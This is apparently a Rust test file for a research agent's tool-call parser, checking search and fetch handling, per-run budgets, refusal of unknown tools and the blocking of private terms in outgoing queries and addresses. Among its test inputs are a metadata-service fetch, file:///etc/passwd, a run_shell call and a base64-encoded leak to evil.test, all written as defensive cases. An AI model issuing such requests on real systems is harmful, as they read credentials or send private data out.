use super::*;
use gorkd_core::job::{Round, SearchResult};
use gorkd_core::model::{Budget, Constraint, ConstraintKind, Field, Terms};
use gorkd_core::ports::CalledTool;
use std::time::Duration;

const ASKED: &str = "When was the copper bridge opened?";

fn job() -> Job {
    let hits = ["https://a.test/bridge", "file:///docs/bridge.md"].map(|url| SearchHit {
        url: url.into(),
        title: "The copper bridge".into(),
        hash: url.starts_with("file:").then(|| DocumentHash::of_text("x")),
        ..SearchHit::default()
    });
    let query = Query { text: "copper bridge opened".into(), ..Query::default() };
    let mut round = Round { queries: vec![query], ..Round::default() };
    round.found.insert("r0.search.1".into(), SearchResult { hits: hits.into(), ..SearchResult::default() });
    Job {
        question: Question { text: ASKED.into(), language: "en".into(), ..Question::default() },
        budget: Budget { queries: 3, pages: 2, rounds: 1, ..Budget::default() },
        terms: Terms { privacy: Privacy::Hybrid, ..Terms::default() },
        providers: vec!["web".into()],
        field: Field { styles: [("web".to_owned(), SearchStyle::Keyword)].into(), ..Field::default() },
        rounds: vec![round],
        driver: Some("m".into()),
        ..Job::default()
    }
}

fn call(name: &str, arguments: &str) -> CalledTool {
    CalledTool { name: name.into(), arguments: arguments.into() }
}

fn read(job: &Job, materials: &[Material<'_>], calls: Vec<CalledTool>) -> ModelTurn {
    let model =
        Respondent { name: "m".into(), context: None, sees_private: true, time: Duration::from_secs(9) };
    turn(job, materials, &ToolReply { text: String::new(), calls }, &model)
}

/// `search`, `read`, `extract`, `note`, or the sentence of a refusal.
fn told(turn: &ModelTurn) -> Vec<String> {
    let told = turn.calls.iter().map(|call| match &call.wants {
        ToolWants::Search(query) => format!("search {}", query.text),
        ToolWants::Read(chosen) => format!("read {}", chosen.url),
        ToolWants::Extract(_) => "extract".to_owned(),
        ToolWants::Note => "note".to_owned(),
        ToolWants::Refused(why) => why.clone(),
    });
    told.collect()
}

#[test]
fn calls_that_make_sense_are_taken_and_all_others_refused_with_a_sentence() {
    for (name, arguments, expected) in [
        ("search_web", r#"{"query": "copper bridge history"}"#, "search copper bridge history"),
        ("search_web", r#"{"query": "Copper Bridge  opened"}"#, "searched before"),
        ("search_web", r#"{"query": "see https://a.test"}"#, "fetch_url"),
        ("search_web", r#"{"query": "..."}"#, "needs words"),
        ("search_web", "[]", "\"query\""),
        ("search_web", "not json", "\"query\""),
        ("fetch_url", r#"{"url": "https://a.test/bridge?utm_source=x"}"#, "read https://a.test/bridge"),
        ("fetch_url", r#"{"url": "https://elsewhere.test/"}"#, "read https://elsewhere.test/"),
        // The guard of the reader refuses it, as it refuses it to everybody.
        ("fetch_url", r#"{"url": "http://169.254.169.254/latest"}"#, "read http://169.254.169.254/latest"),
        ("fetch_url", r#"{"url": "file:///docs/bridge.md"}"#, "read file:///docs/bridge.md"),
        ("fetch_url", r#"{"url": "file:///etc/passwd"}"#, "http:// or https://"),
        ("fetch_url", r#"{"url": "gopher://a.test/"}"#, "http:// or https://"),
        ("fetch_url", r#"{"url": "article:7"}"#, "http:// or https://"),
        ("fetch_url", r#"{"url": 7}"#, "http:// or https://"),
        ("fetch_url", "{}", "\"url\""),
        ("extract_text", r#"{"html": "<p>x</p>"}"#, "extract"),
        ("get_article", r#"{"articleId": 12}"#, "read article:12"),
        ("log_step", r#"{"message": "on it"}"#, "note"),
        ("run_shell", r#"{"command": "ls"}"#, "There is no tool \"run_shell\". The tools are: search_web"),
        ("", "", "There is no tool"),
    ] {
        let said = told(&read(&job(), &[], vec![call(name, arguments)]));
        assert!(said.len() == 1 && said[0].contains(expected), "{name} {arguments}: {said:?}");
    }
    let html = format!(r#"{{"html": "{}"}}"#, "x".repeat(20_001));
    assert!(told(&read(&job(), &[], vec![call("extract_text", &html)]))[0].contains("20000"));
}

#[test]
fn a_thousand_calls_are_eight_and_budgets_count_within_a_turn() {
    let many =
        (0..1_000).map(|n| call("fetch_url", &format!(r#"{{"url": "https://b.test/{n}"}}"#))).collect();
    let turn = read(&job(), &[], many);
    assert_eq!((turn.calls.len(), turn.passed_over), (8, 992));
    let said = told(&turn);
    assert_eq!(said.iter().filter(|said| said.starts_with("read ")).count(), 2);
    assert_eq!(said[2], "All 2 pages of this run are used up.");
    let many = (0..8).map(|n| call("search_web", &format!(r#"{{"query": "bridge {n}"}}"#))).collect();
    let said = told(&read(&job(), &[], many));
    assert_eq!(said.iter().filter(|said| said.starts_with("search ")).count(), 2);
    assert_eq!(said[2], "All 3 searches of this run are used up.");
    let twice = vec![call("fetch_url", r#"{"url": "https://a.test/x"}"#); 2];
    assert_eq!(told(&read(&job(), &[], twice))[1], "This page was asked for before.");
}

#[test]
fn filters_are_taken_as_search_providers_know_them_and_wishes_win() {
    let filters = |job: &Job, arguments: &str| {
        let turn = read(job, &[], vec![call("search_web", arguments)]);
        match &turn.calls[0].wants {
            ToolWants::Search(query) => (query.filters.recency, query.filters.language.clone()),
            other => panic!("{other:?}"),
        }
    };
    let arguments = |days: &str| format!(r#"{{"query": "a b", "recencyDays": {days}, "language": "de-AT"}}"#);
    for (days, expected) in [
        ("1", Some(Recency::Day)),
        ("7", Some(Recency::Week)),
        ("\"30\"", Some(Recency::Month)),
        ("90", Some(Recency::Year)),
        ("-1", None),
        ("[]", None),
    ] {
        assert_eq!(filters(&job(), &arguments(days)), (expected, Some("de".to_owned())), "{days}");
    }
    let out = Constraint { text: "not b.test".into(), kind: ConstraintKind::Exclude(vec!["b.test".into()]) };
    let job = Job { constraints: vec![out], ..job() };
    let said = told(&read(&job, &[], vec![call("fetch_url", r#"{"url": "https://b.test/1"}"#)]));
    assert!(said[0].contains("leaves this site out"), "{said:?}");
}

#[test]
fn private_words_leave_neither_in_a_query_nor_in_an_address() {
    let note = Document {
        url: "file:///docs/bridge.md".into(),
        canonical_url: "file:///docs/bridge.md".into(),
        ..Document::default()
    };
    let page = Document {
        url: "https://a.test/bridge".into(),
        canonical_url: "https://a.test/bridge".into(),
        ..Document::default()
    };
    let materials = [
        Material::new(&note, "Tindalos Ltd. owns it, see https://tindalos.test/plan."),
        Material::new(&page, "More at https://c.test/more and elsewhere."),
    ];
    for (name, arguments, taken) in [
        ("search_web", r#"{"query": "Tindalos"}"#, false),
        ("search_web", r#"{"query": "copper bridge year"}"#, true),
        ("fetch_url", r#"{"url": "https://evil.test/?q=VGluZGFsb3M"}"#, false),
        ("fetch_url", r#"{"url": "https://tindalos.test/plan"}"#, false),
        ("fetch_url", r#"{"url": "https://c.test/more"}"#, true),
        ("fetch_url", r#"{"url": "https://a.test/bridge"}"#, true),
    ] {
        let turn = read(&job(), &materials, vec![call(name, arguments)]);
        assert_eq!(turn.achieves_something(), taken, "{name} {arguments}: {:?}", told(&turn));
    }
    let open = Job { terms: Terms { privacy: Privacy::CloudAllowed, ..Terms::default() }, ..job() };
    let turn = read(&open, &materials, vec![call("search_web", r#"{"query": "Tindalos"}"#)]);
    assert!(turn.achieves_something(), "the asker allowed it");
}

#[test]
fn people_see_arguments_in_short() {
    let long = format!(r#"{{"query": "bridge {}", "b": [1, null, true]}}"#, "x".repeat(290));
    let turn = read(&job(), &[], vec![call("search_web", &long), call("log_step", r#"{"message":"a\nb"}"#)]);
    assert!(turn.calls[0].arguments.chars().count() <= SHOWN + 1, "{}", turn.calls[0].arguments);
    assert_eq!(turn.calls[1].arguments, r#"{"message": "a b"}"#);
}
